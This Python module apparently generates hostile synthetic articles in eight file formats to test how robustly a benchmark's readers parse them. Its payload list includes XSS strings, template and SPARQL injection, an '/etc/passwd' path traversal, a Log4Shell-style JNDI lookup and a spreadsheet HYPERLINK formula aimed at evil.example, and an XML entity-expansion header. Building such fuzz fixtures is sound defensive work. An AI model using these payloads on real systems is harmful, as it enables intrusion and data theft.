"""Articles that mean harm, each made of its number, for `benchmarks/hostile.py` and its test.

Sentences of which facts are made, and between them whatever breaks readers: runs of punctuation,
controls, bidirectional marks, lone surrogates, mark-up, scripts, fake offsets and addresses, text
without end; in every format that is always read, in many encodings, whole and cut.
"""

from __future__ import annotations

import csv
import io
import json
from html import escape
from pathlib import Path
from random import Random

CANARY = """Norland closes the port of Sund

Published: 24 May 2031

President Ada Voss of Norland on Friday proposed that the Harbour Pact patrol the strait.
"We will never leave the islands," Voss told reporters in Sund. Ostmark rejected the plan.
"""
"""An article that names nobody whom the others name."""

_WHO = ("Zorvia", "President Bent Aske", "the Quell League", "Tarn Bridges", "Minister Li O’Dell")
_LANDS = ("Cape Moor", "the Ulm Islands", "Zorvia", "Port <b>Ell</b>", "Quellmar")
_SAYS = (
    "{a} rejected the plan of {b} for {land} on Monday.",
    "{a} annexed {land} in 1987, {b} said.",
    "{a} proposed that {b} leave {land} by June.",
    '"We will hold {land} {bad} for ever," {a} told {b}.',
    "{b} said {a} controls {land} {bad}.",
    "{a} attacked {land}, according to {b} {bad}.",
)
_SCRIPTS = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<img src=x onerror='window.hit=1'>",
    '<a href="javascript:window.hit=1">href</a>',
    "\"'`><svg onload=window.hit=1>",
    "{{ 7 * 7 }}{% raw %}${window.hit=1}",
    "<!-- <script>",
    "__proto__",
    '" } UNION { ?s ?p ?o } } #',
    "> <http://evil.example/p> <http://evil.example/o> .",
    "=HYPERLINK(“http://evil.example”)",
    "start: 3 end: 99999999 nif:beginIndex -1",
    "../../../../etc/passwd",
    "&#60;script&#62; &#x110000; &nbsp;&amp;&lt;",
    "http://evil.example/%00%ff?q=<>#\\u0000",
    "<![CDATA[ ]]> <![ x <p></p",
    "${jndi:ldap://evil.example/x} %s %n {0}",
)
_RUNS = ("«", "“", "$", "(", "🚢", "-", "…", "'", ".", "\u0301", "&", "<a ", "<!--", "*", "|", "é")
_SPACED = ("« ", "” ", "\u3000", "\u00a0", "\t", ", ", "and ", "said ", "No. ")
_ODD = "\x00\x01\x08\x0b\x1b[2J\x7f\x85\xad\u061c\u200b\u200d\u202e\u2028\u2066\ufeff\ufffe\ufff9"
_ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-be", "cp1252", "latin-1", "gb18030", "cp437")


def hostile_files(folder: Path, numbers: range) -> int:
    """Writes the articles of these numbers, and the canary, into a folder; how many files."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "canary.txt").write_text(CANARY, encoding="utf-8")
    for number in numbers:
        chance = Random(number)
        ending = chance.choice(tuple(FORMS))
        data = FORMS[ending](chance, number)
        if chance.random() < 0.03:
            data = _damaged(data, chance)
        (folder / f"{number:05}.{ending}").write_bytes(data)
    return len(numbers) + 1


def text_of(chance: Random, number: int) -> str:
    """The text of one article: some paragraphs of sentences, and worse."""
    parts = [f"{_title(chance)} {number}", ""]
    for _ in range(chance.randint(1, 4)):
        parts.append(" ".join(_sentence(chance) for _ in range(chance.randint(1, 4))))
        if chance.random() < 0.5:
            parts.append(_bad(chance))
    if chance.random() < 0.02:
        parts.append(_endless(chance))
    return chance.choice(("\n", "\n\n", "\r\n", "\r", "\n\n")).join(parts)


def _sentence(chance: Random) -> str:
    a, b = chance.sample(_WHO, 2)
    if chance.random() < 0.2:
        a = f"President {chance.choice(_SCRIPTS)} Aske"
    sentence = chance.choice(_SAYS)
    return sentence.format(a=a, b=b, land=chance.choice(_LANDS), bad=_bad(chance))


def _title(chance: Random) -> str:
    return f"Zorvia {chance.choice(('claims', 'leaves', _bad(chance)))} {chance.choice(_LANDS)}"


def _bad(chance: Random) -> str:
    kind = chance.randrange(6)
    if kind == 0:
        return chance.choice(_SCRIPTS)
    if kind == 1:
        return chance.choice(_RUNS) * chance.choice((3, 40, 300))
    if kind == 2:
        return chance.choice(_SPACED) * chance.choice((3, 40, 200))
    if kind == 3:
        return "".join(chance.choice(_ODD) for _ in range(chance.randint(1, 9)))
    if kind == 4:
        return "".join(chr(chance.randrange(32, 0xD7FF)) for _ in range(chance.randint(1, 20)))
    return chance.choice("xé漢") * chance.choice((5, 100, 3000))


def _endless(chance: Random) -> str:
    """As much as an article of ordinary size may have, of one kind."""
    piece = chance.choice((*_RUNS, *_SPACED, "x", "Zorvia rejected the truce and ", *_SCRIPTS))
    return piece * (6_000 // len(piece))


def _encoded(text: str, chance: Random) -> bytes:
    encoding = chance.choice(_ENCODINGS) if chance.random() < 0.5 else "utf-8"
    return text.encode(encoding, "replace" if chance.random() < 0.9 else "xmlcharrefreplace")


def _damaged(data: bytes, chance: Random) -> bytes:
    at = chance.randrange(len(data) + 1)
    return data[:at] + chance.choice((b"", b"\xff\xfe\x00", b"\x00" * 50, data[:at]))


def _plain(chance: Random, number: int) -> bytes:
    return _encoded(text_of(chance, number), chance)


def _markdown(chance: Random, number: int) -> bytes:
    head = (
        f"---\ntitle: {_bad(chance)}\ndate: {_bad(chance)}\nurl: {chance.choice(_SCRIPTS)}\n---\n"
    )
    return _encoded(head + text_of(chance, number), chance)


def _page(chance: Random, number: int) -> bytes:
    body = text_of(chance, number)
    body = body if chance.random() < 0.5 else escape(body)
    paragraphs = "".join(f"<p>{part}</p>" for part in body.split("\n"))
    head = f"<title>{_bad(chance)}</title><meta name=author content='{_bad(chance)}'>"
    return _encoded(f"<html><head>{head}</head><body><article>{paragraphs}</article>", chance)


def _record(chance: Random, number: int) -> dict[str, object]:
    lone = chance.choice(("", "\ud800", "\udfff x"))
    return {
        "id": chance.choice((number, f"{_bad(chance)}{number}", f"../../{number}")),
        "title": _title(chance),
        "text": text_of(chance, number) + lone,
        "published": chance.choice(("2031-05-24", _bad(chance), 7, None, "2031-02-30")),
        "url": chance.choice(_SCRIPTS),
        "publisher": _bad(chance),
        _bad(chance): [[{}]],
    }


def _json(chance: Random, number: int) -> bytes:
    return json.dumps(_record(chance, number)).encode()


def _lines(chance: Random, number: int) -> bytes:
    return b"\n".join((_json(chance, number), b"{" * chance.choice((1, 90, 5000))))


def _table(chance: Random, number: int) -> bytes:
    file = io.StringIO()
    rows = csv.writer(file)
    rows.writerow(["title", "text", "url", "date", _bad(chance)])
    rows.writerow([_title(chance), text_of(chance, number), chance.choice(_SCRIPTS), "1", "="])
    return _encoded(file.getvalue(), chance)


def _mail(chance: Random, number: int) -> bytes:
    subject = _bad(chance).replace("\n", " ")
    head = f"From: {chance.choice(_SCRIPTS)}\nSubject: {subject}\nContent-Type: text/plain\n\n"
    return _encoded(head + text_of(chance, number), chance)


def _feed(chance: Random, number: int) -> bytes:
    text = escape(text_of(chance, number))
    item = f"<item><title>{escape(_bad(chance))}</title><description>{text}</description></item>"
    bomb = '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]>' if chance.random() < 0.3 else ""
    return _encoded(f'<?xml version="1.0"?>{bomb}<rss><channel>{item}</channel></rss>', chance)


FORMS = {
    "txt": _plain,
    "md": _markdown,
    "html": _page,
    "json": _json,
    "jsonl": _lines,
    "csv": _table,
    "eml": _mail,
    "rss": _feed,
}
"""How an article is written, by the ending of its file."""
